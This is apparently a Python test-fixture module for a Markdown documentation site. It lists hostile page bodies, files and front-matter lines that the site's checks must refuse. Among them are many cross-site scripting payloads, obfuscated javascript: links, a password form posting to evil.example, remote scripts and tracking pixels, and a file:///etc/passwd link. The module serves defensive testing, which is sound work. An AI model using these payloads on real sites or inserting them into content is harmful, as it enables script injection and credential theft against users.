"""What somebody of ill will might contribute: one set of data for every layer of defence."""

from tests.support.sites import page

# The body of a page each. Whatever runs calls `alert`; whatever is loaded comes from evil.example.
HOSTILE_BODIES = r"""
<script>alert(1)</script>
~~
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
~~
Words <img src=x onerror=alert(1)> and words.
~~
<svg onload=alert(1)>
~~
<iframe src="https://evil.example/"></iframe>
~~
<object data="javascript:alert(1)"></object>
~~
<embed src="x.swf">
~~
<base href="https://evil.example/">
~~
<meta http-equiv="refresh" content="0;url=https://evil.example/">
~~
<link rel="stylesheet" href="https://evil.example/x.css">
~~
<style>body{display:none}</style>
~~
<form action="https://evil.example/"><input name="password"></form>
~~
<button formaction="javascript:alert(1)">Next</button>
~~
<details open ontoggle=alert(1)>
~~
<math><a xlink:href="javascript:alert(1)">x</a></math>
~~
<div markdown="1" onclick="alert(1)">*words*</div>
~~
<email-template><script>alert(1)</script></email-template>
~~
<video><source onerror="alert(1)"></video>
~~
<a href="javascript:alert(1)">words</a>
~~
words</p><script>alert(1)</script>
~~
<img
src=x
onerror=alert(1)>
~~
<!-- a comment --><script>alert(1)</script>
~~
<!--><script>alert(1)</script>-->
~~
<!-- --!><script>alert(1)</script> -->
~~
<!-- never ends
~~
<?php echo 1 ?>
~~
<![CDATA[<script>alert(1)</script>]]>
~~
<!DOCTYPE html [<!ENTITY x "y">]>
~~
> <script>alert(1)</script>
~~
- one

    <script>alert(1)</script>
~~
- one

[a]: b

    <script>alert(1)</script>
~~
!!! note

    words

[a]: b

    <script>alert(1)</script>
~~
!!! note "<script>alert(1)</script>"
    words
~~
??? note "Title <img src=x onerror=alert(1)>"
    words
~~
# Title <img src=x onerror=alert(1)>
~~
| a | b |
|---|---|
| <script>alert(1)</script> | c |
~~
\`<img src=x onerror=alert(1)>\`
~~
`one
<img src=x onerror=alert(1)>
two`
~~
`a
b` <img src=x onerror=alert(1)> `c`
~~
`` a ` <img src=x onerror=alert(1)> ``` b
~~
<!-- ` --> <img src=x onerror=alert(1)> `
~~
```text title="a`b"
```
<img src=x onerror=alert(1)>
```
```
~~
```text
````
<img src=x onerror=alert(1)>
```
~~
~~~text
```
~~~~
<img src=x onerror=alert(1)>
~~~
~~
```{.text onclick="alert(1)"}
words
```
~~
``` { .text #id style="position:fixed" }
words
```
~~
```text hl_lines="1" onclick="alert(1)"
words
```
~~
    code
words
```
<img src=x onerror=alert(1)>
```
~~
- one

    ```text
<img src=x onerror=alert(1)>
    ```
~~
```x``` <img src=x onerror=alert(1)>
~~
[words](javascript:alert(1))
~~
[words](JaVaScRiPt:alert(1))
~~
[words](javascript&#58;alert(1))
~~
[words](javascript&colon;alert(1))
~~
[words](&#x6a;avascript:alert(1))
~~
[words](&amp;#106;avascript:alert(1))
~~
[words](java&#10;script:alert(1))
~~
[words](java&Tab;script:alert(1))
~~
[words](java
script:alert(1))
~~
[words](
javascript:alert(1)
)
~~
[words](<javascript:alert(1)>)
~~
[words](< javascript:alert(1)>)
~~
[words]( javascript:alert(1) "a title")
~~
[a [b] c](javascript:alert(1))
~~
[![A desk](desk.png)](javascript:alert(1))
~~
[words](vbscript:msgbox(1))
~~
[words](data:text/html,<script>alert(1)</script>)
~~
[words](data:text/html;base64,PHNjcmlwdD4=)
~~
[words](file:///etc/passwd)
~~
[words](blob:https://evil.example/x)
~~
[words](view-source:https://example.org/)
~~
[words](intent://evil#Intent;end)
~~
[words][x]

[x]: javascript:alert(1)
~~
[words][x]

[x]:
   javascript:alert(1)
~~
[words][x]

[x]: <javascript:alert(1)> "title"
~~
> [x]: javascript:alert(1)

[words][x]
~~
[x]: y
[words](javascript:alert(1))
~~
<javascript://example.org/%0aalert(1)>
~~
<https://example.org/><script>alert(1)</script>
~~
![A desk](https://evil.example/pixel.png)
~~
![A desk](//evil.example/pixel.png)
~~
![A desk](data:image/svg+xml,<svg/onload=alert(1)>)
~~
![A desk][desk]

[desk]: https://evil.example/pixel.png
~~
![desk][]

[Desk]: https://evil.example/pixel.png
~~
![desk]

[desk]: https://evil.example/pixel.png
~~
![A desk](desk.svg)
~~
![A desk](\\\\evil.example\pixel.png)
~~
[words](../checklists/first.md){onclick=alert(1)}
~~
[words](../checklists/first.md){: onclick="alert(1)" }
~~
[words](../checklists/first.md){href=javascript:alert(1)}
~~
*words*{style="position:fixed;inset:0"}
~~
Words.
{: onmouseover=alert(1) }
~~
## Title {#title onclick=alert(1)}
~~
## Title {: data-toc-label="<b>x</b>" }
~~
- item
{: contenteditable }
~~
| a {onclick=alert(1)} | b |
|---|---|
| c | d |
~~
*words*{{x onclick=alert(1)}}
~~
*words*{hidden}
~~
![A desk](desk.png){srcset="https://evil.example/x.png 2x"}
""".strip("\n").split("\n~~\n")

# Files below docs/, each with the rule that refuses it.
HOSTILE_FILES: dict[str, tuple[str | bytes, str]] = {
    "guides/page.html": ("<script>alert(1)</script>", "FILE009"),
    "assets/run.js": ("alert(1)", "FILE009"),
    "assets/style.css": ("body{}", "FILE009"),
    "guides/picture.svg": ("<svg onload='alert(1)'/>", "FILE009"),
    "guides/page.markdown": (page("<script>alert(1)</script>"), "FILE009"),
    "guides/page.mkd": (page("<script>alert(1)</script>"), "FILE009"),
    "guides/Page.MD": (page("Words."), "FILE009"),
    "guides/README.md": (page("Words."), "FILE010"),
    "guides/two words.md": (page("Words."), "FILE010"),
    "_hidden/page.md": (page("Words."), "FILE010"),
    "_hidden/page.html": ("<script>alert(1)</script>", "FILE009"),
    "templates/page.md": (page("Words."), "FILE009"),
    "_data/more.yml": ("a: 1", "FILE009"),
    "_data/nested/fields.yml": ("a: 1", "FILE009"),
    "robots.txt": ("User-agent: *", "FILE009"),
    "CNAME": ("evil.example", "FILE009"),
    "_redirects": ("/* https://evil.example/:splat", "FILE009"),
    "guides/form.pdf": (b"%PDF-1.7", "FILE009"),
    "guides/program.exe": (b"MZ", "FILE009"),
    "guides/picture.png": ("<svg onload='alert(1)'/>", "FILE011"),
    "guides/picture.webp": (b"RIFF", "FILE011"),
    "guides/large.png": (b"\x89PNG\r\n\x1a\n" + b"0" * 1_000_001, "FILE005"),
}

# A line of front matter each.
HOSTILE_FRONT_MATTER = [
    "title: <img src=x onerror=alert(1)>",
    "title: '&lt;img src=x onerror=alert(1)&gt;'",
    "title: '{{ config }}'",
    'description: "<script>alert(1)</script>"',
    "tags: ['<script>alert(1)</script>']",
    "template: 404.html",
    "hide: [navigation]",
    "next: ['javascript:alert(1)']",
    "<<: {title: x}",
]


def with_front_matter(line: str) -> str:
    """Return a checklist whose front matter begins with this line."""
    lines = [
        line,
        "title: A page",
        "description: About it.",
        "stage: reply",
        "reviewed: 2026-11-23",
    ]
    key = line.partition(":")[0]
    kept = [each for each in lines[1:] if not each.startswith(f"{key}:")]
    return "\n".join(["---", line, *kept, "---", "", "- [ ] One {#one}", ""])
